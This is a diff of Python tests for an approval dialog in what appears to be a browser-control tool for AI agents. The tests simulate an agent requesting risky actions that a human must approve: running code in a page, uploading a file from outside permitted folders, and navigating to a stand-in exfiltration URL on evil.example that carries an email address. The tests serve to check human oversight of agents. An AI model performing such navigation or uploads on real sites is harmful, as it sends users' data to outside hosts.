@@ -36,6 +36,7 @@ async def approvals(window: MainWindow, instance: Instance) -> QWidget:
             await instance.router.gates.approvals.ask(
                 agent, instance.catalogue.get("connect_tab"), {"browserTabId": 7},
                 site="shop.example", where="Cart – https://shop.example/?q=1", timeout_s=20,
+                scene=Scene(is_managed=False),
             )  # fmt: skip
         except KaptureError:
             return  # the window went with the question
@@ -180,23 +181,26 @@ async def questions(window: MainWindow, instance: Instance) -> QWidget:
     agent.parent, agent.program = "claude", "/usr/bin/claude"
     invoice = instance.folder / "invoice.pdf"
     invoice.write_bytes(b"x" * 12_345)
-    wanted: tuple[tuple[str, dict[str, Any], str], ...] = (
-        ("evaluate", {"code": CODE}, "runs code in the page"),
-        ("upload_file", {"paths": [str(invoice)], "selector": "#file"}, f"gives {invoice} to the page"),
-        ("navigate", {"url": "https://evil.example/collect?mail=a%40b.c"}, "leaves shop.example for evil.example"),
-    )
+    wanted: tuple[tuple[str, dict[str, Any], str, str], ...] = (
+        ("evaluate", {"code": CODE}, "runs code in the page", "execute"),
+        ("upload_file", {"paths": [str(invoice)], "selector": "#file"},
+         f"gives {invoice} to the page; it is outside the folders agents may read", f"file {invoice.parent}"),
+        ("navigate", {"url": "https://evil.example/collect?mail=a%40b.c"}, "leaves shop.example for evil.example",
+         "navigate"),
+    )  # fmt: skip
     tab = instance.tabs.get("t1")
 
-    async def asking(name: str, params: dict[str, Any], why: str) -> None:
+    async def asking(name: str, params: dict[str, Any], why: str, permission: str) -> None:
         with contextlib.suppress(KaptureError):  # the window went with the question
             await instance.router.gates.approvals.ask(
                 agent, instance.catalogue.get(name), params, site="shop.example", where=f"{tab.title} – {tab.url}",
-                timeout_s=20, why=why, permission="execute", scopes=("once", "session", "always"),
-                scene=Scene(tab, (tab.url,), name == "navigate"),
+                timeout_s=20, why=why, permission=permission,
+                scopes=("once", "session") if name == "upload_file" else ("once", "session", "always"),
+                scene=Scene(tab, (tab.url,), tab.managed),
             )  # fmt: skip
 
-    for name, params, why in wanted:
-        tasks.spawn(asking(name, params, why), "ask")
+    for one in wanted:
+        tasks.spawn(asking(*one), "ask")
     window.shell.toasts.clear()
     await until(lambda: (card := window.rooms.agents.approvals.card) is not None and card.allow.isEnabled(), "the card")
     assert len(window.rooms.agents.approvals.asks) == len(wanted)
@@ -245,6 +249,7 @@ async def approvals_asked(instance: Instance) -> None:
         await instance.router.gates.approvals.ask(
             instance.add_agent("claude-code"), instance.catalogue.get("connect_tab"), {"browserTabId": 7},
             site="shop.example", where="Cart – https://shop.example/?q=1", timeout_s=20,
+            scene=Scene(is_managed=False),
         )  # fmt: skip
 
 
